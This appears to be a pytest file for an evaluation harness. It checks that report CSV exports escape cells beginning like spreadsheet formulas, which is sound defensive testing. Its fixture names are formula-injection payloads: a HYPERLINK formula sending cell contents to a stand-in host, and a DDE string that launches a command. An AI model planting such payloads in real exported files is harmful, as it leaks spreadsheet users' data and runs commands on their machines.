"""The report's CSV exports are spreadsheet-safe: a name that starts like a formula is written as text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd

from harness.cli.main import main
from harness.store.results import claim_run_dir, import_signature, write_results
from harness.store.rundir import RunStore, Unit
from reports.csvcells import FORMULA_START, safe_cell, safe_frame
from tests.conftest import shared_rows

NAMES = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _run(root: Path, name: str, shift: int) -> Path:
    labels = ["entailment", "neutral", "contradiction"]
    store = RunStore(root / f"run{shift}")
    run = claim_run_dir(store, lambda old: {"name": name, "model": name, "weights_sha256": str(shift)})
    rows = shared_rows("xnli/de.test.jsonl", 40)
    records = [{"id": str(r["idx"]), "gold": r["gold_label"],
                "pred": labels[(labels.index(r["gold_label"]) + (i % (2 + shift) == 0)) % 3]}
               for i, r in enumerate(rows)]
    store.write_unit(Unit("xnli", "de", "test", "clean"), records, "fp",
                     {"metrics": ["accuracy"], "ranked_metric": "accuracy", "task_type": "pair_classification"})
    write_results(store, run, import_signature)
    return root / f"run{shift}"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_cells_that_start_like_formulas_are_text() -> None:
    assert [safe_cell(n)[0] for n in NAMES] == ["'"] * 4
    assert safe_cell("xnli") == "xnli" and safe_cell(-2.5) == -2.5 and safe_cell(None) is None
    frame = safe_frame(pd.DataFrame({"name": ["\tx", "\rx", "ok"], "value": [-1.0, 2.0, 3.0]}))
    assert frame["name"].tolist() == ["'\tx", "'\rx", "ok"] and frame["value"].tolist() == [-1.0, 2.0, 3.0]


def test_report_csv_exports_never_start_a_cell_with_a_formula(tmp_path: Path) -> None:
    runs = [_run(tmp_path, name, shift) for shift, name in enumerate(NAMES)]
    site = tmp_path / "site"
    assert main(["report", *map(str, runs), "--out", str(site), "--resamples", "50"]) == 0
    seen = set()
    for path in sorted(site.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert _number(cell) or not cell.startswith(FORMULA_START), (path.name, cell)
                    seen.add(cell)
    assert {"'" + n for n in NAMES} <= seen  # the names are there, as text
    board = json.loads((site / "leaderboard.json").read_text())
    assert set(NAMES) <= {r["submission"] for r in board}  # the JSON export keeps them as they are
